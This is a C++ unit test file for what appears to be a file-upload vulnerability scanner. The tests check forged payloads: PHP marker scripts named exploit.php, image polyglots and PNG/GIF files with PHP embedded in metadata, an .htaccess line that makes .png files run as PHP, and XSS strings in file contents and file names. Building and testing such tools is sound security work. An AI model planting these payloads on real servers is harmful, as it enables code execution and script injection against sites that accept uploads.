#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest.h>

#include <cstdint>
#include <string>

#include "common/error.hpp"
#include "common/rng.hpp"
#include "payloads/forge.hpp"
#include "payloads/image.hpp"
#include "pil_oracle.hpp"

using namespace ufu;
using namespace ufu::payloads;

namespace {

// Independent CRC-32 oracle (reflected, poly 0xEDB88320), written before the
// forger and kept free of zlib so chunk checksums are cross-checked against a
// second route.
std::uint32_t crc32_oracle(std::string_view data) {
  std::uint32_t crc = 0xFFFFFFFFu;
  for (unsigned char byte : data) {
    crc ^= byte;
    for (int bit = 0; bit < 8; ++bit) {
      crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
    }
  }
  return crc ^ 0xFFFFFFFFu;
}

std::uint32_t be32_at(std::string_view s, size_t off) {
  return (static_cast<std::uint32_t>(static_cast<unsigned char>(s[off])) << 24) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(s[off + 1])) << 16) |
         (static_cast<std::uint32_t>(static_cast<unsigned char>(s[off + 2])) << 8) |
         static_cast<std::uint32_t>(static_cast<unsigned char>(s[off + 3]));
}

size_t count_occurrences(std::string_view haystack, std::string_view needle) {
  size_t count = 0;
  for (size_t pos = 0; (pos = haystack.find(needle, pos)) != std::string_view::npos;
       pos += needle.size()) {
    ++count;
  }
  return count;
}

} // namespace

TEST_CASE("CRC-32 oracle sanity: known vectors") {
  // Frozen from the CRC-32 check value ("123456789") and the PNG IEND chunk.
  CHECK(crc32_oracle("123456789") == 0xCBF43926u);
  CHECK(crc32_oracle("IEND") == 0xAE426082u);
}

TEST_CASE("marker token appears exactly once and never contains <?") {
  Rng rng(42);
  for (int i = 0; i < 50; ++i) {
    ExecMarker marker = make_marker(rng);
    CHECK(marker.token.size() == 16);
    CHECK(marker.token.find("<?") == std::string::npos);
    CHECK(count_occurrences(marker.source_form, marker.token) == 1);
    CHECK(marker.source_form == "<?php echo \"" + marker.token + "\"; ?>");
  }
}

TEST_CASE("plain script is the bare marker source") {
  ExecMarker marker = marker_from_token("A1B2C3D4E5F6G7H8");
  PayloadArtifact artifact = forge_plain_script(marker);
  CHECK(artifact.bytes == "<?php echo \"A1B2C3D4E5F6G7H8\"; ?>");
  CHECK(artifact.suggested_name == "exploit.php");
  CHECK(artifact.kind == PayloadKind::plain_script);
}

TEST_CASE("magic polyglot begins with the chosen header and embeds the script") {
  ExecMarker marker = marker_from_token("tok0tok1tok2tok3");
  PayloadArtifact gif = forge_magic_polyglot(marker, MagicHeader::gif87a);
  CHECK(gif.bytes.substr(0, 6) == "GIF87a");
  CHECK(gif.bytes.substr(6) == marker.source_form); // strip prefix -> plain script
  PayloadArtifact png = forge_magic_polyglot(marker, MagicHeader::png_signature);
  CHECK(png.bytes.substr(0, 8) == std::string(png_signature()));
  PayloadArtifact jpg = forge_magic_polyglot(marker, MagicHeader::jpeg_soi);
  CHECK(jpg.bytes.substr(0, 2) == std::string("\xFF\xD8"));
}

TEST_CASE("PNG forgery: chunk CRCs validate against the independent oracle") {
  ExecMarker marker = marker_from_token("0123456789abcdef");
  PayloadArtifact artifact = forge_image_metadata(marker, ImageContainer::png, 2, 2);
  const std::string& bytes = artifact.bytes;
  REQUIRE(bytes.substr(0, 8) == std::string(png_signature()));

  size_t pos = 8;
  bool saw_text = false;
  bool saw_end = false;
  while (pos + 12 <= bytes.size()) {
    std::uint32_t length = be32_at(bytes, pos);
    std::string_view type = std::string_view(bytes).substr(pos + 4, 4);
    std::string_view type_and_data = std::string_view(bytes).substr(pos + 4, 4 + length);
    std::uint32_t stored_crc = be32_at(bytes, pos + 8 + length);
    CHECK(crc32_oracle(type_and_data) == stored_crc);
    if (type == "tEXt") saw_text = true;
    pos += 12 + length;
    if (type == "IEND") {
      saw_end = true;
      break;
    }
  }
  CHECK(saw_text);
  CHECK(saw_end);
  CHECK(pos == bytes.size());

  // IHDR declares 2x2, 8-bit RGB
  CHECK(be32_at(bytes, 16) == 2);
  CHECK(be32_at(bytes, 20) == 2);

  CHECK(count_occurrences(bytes, marker.source_form) == 1);
  CHECK(count_occurrences(bytes, marker.token) == 1);
}

TEST_CASE("PNG forgery decodes via the reference decoder at declared size") {
  ExecMarker marker = marker_from_token("0123456789abcdef");
  PayloadArtifact artifact = forge_image_metadata(marker, ImageContainer::png, 7, 5);
  auto decoded = testsupport::pil_decode(artifact.bytes);
  REQUIRE(decoded.has_value());
  CHECK(decoded->width == 7);
  CHECK(decoded->height == 5);
}

TEST_CASE("GIF forgery decodes via the reference decoder at declared size") {
  ExecMarker marker = marker_from_token("0123456789abcdef");
  PayloadArtifact artifact = forge_image_metadata(marker, ImageContainer::gif, 9, 4);
  CHECK(artifact.bytes.substr(0, 6) == "GIF89a");
  CHECK(count_occurrences(artifact.bytes, marker.source_form) == 1);
  auto decoded = testsupport::pil_decode(artifact.bytes);
  REQUIRE(decoded.has_value());
  CHECK(decoded->width == 9);
  CHECK(decoded->height == 4);
}

TEST_CASE("image forgery dimension bounds") {
  ExecMarker marker = marker_from_token("0123456789abcdef");
  CHECK_THROWS_AS(forge_image_metadata(marker, ImageContainer::png, 0, 2), Error);
  CHECK_THROWS_AS(forge_image_metadata(marker, ImageContainer::png, 2, 4097), Error);
}

TEST_CASE("no forger output exceeds 64 KiB, including the largest dimensions") {
  ExecMarker marker = marker_from_token("0123456789abcdef");
  CHECK(forge_plain_script(marker).bytes.size() <= 64 * 1024);
  CHECK(forge_magic_polyglot(marker, MagicHeader::gif87a).bytes.size() <= 64 * 1024);
  CHECK(forge_image_metadata(marker, ImageContainer::png, 4096, 4096).bytes.size() <= 64 * 1024);
  CHECK(forge_image_metadata(marker, ImageContainer::gif, 4096, 4096).bytes.size() <= 64 * 1024);
  CHECK(forge_directory_config(".png").bytes.size() <= 64 * 1024);
}

TEST_CASE("distinct nonces yield byte-distinct artifacts of identical length") {
  ExecMarker a = marker_from_token("aaaaaaaaaaaaaaaa");
  ExecMarker b = marker_from_token("bbbbbbbbbbbbbbbb");
  auto pa = forge_image_metadata(a, ImageContainer::png, 3, 3);
  auto pb = forge_image_metadata(b, ImageContainer::png, 3, 3);
  CHECK(pa.bytes != pb.bytes);
  CHECK(pa.bytes.size() == pb.bytes.size());
  CHECK(forge_plain_script(a).bytes.size() == forge_plain_script(b).bytes.size());
}

TEST_CASE("directory config emits one AddType line") {
  PayloadArtifact artifact = forge_directory_config(".png");
  CHECK(artifact.bytes == "AddType application/x-httpd-php .png\n");
  CHECK(artifact.suggested_name == ".htaccess");
  CHECK_FALSE(artifact.marker.has_value());
  CHECK_THROWS_AS(forge_directory_config(""), Error);
  CHECK_THROWS_AS(forge_directory_config("png"), Error);
}

TEST_CASE("xss forgeries") {
  XssForgery content = forge_xss(XssCarrier::file_content);
  CHECK(content.artifact.bytes == "<img src=x onerror=alert(1)>");
  CHECK(content.artifact.suggested_name == "xss.html");
  CHECK(content.probe.payload.find('\r') == std::string::npos);
  CHECK(content.probe.payload.find('\n') == std::string::npos);

  XssForgery named = forge_xss(XssCarrier::file_name);
  CHECK(named.artifact.suggested_name == "<img src=x onerror=alert(1)>.png");
  CHECK(named.artifact.bytes.find('<') == std::string::npos);
}
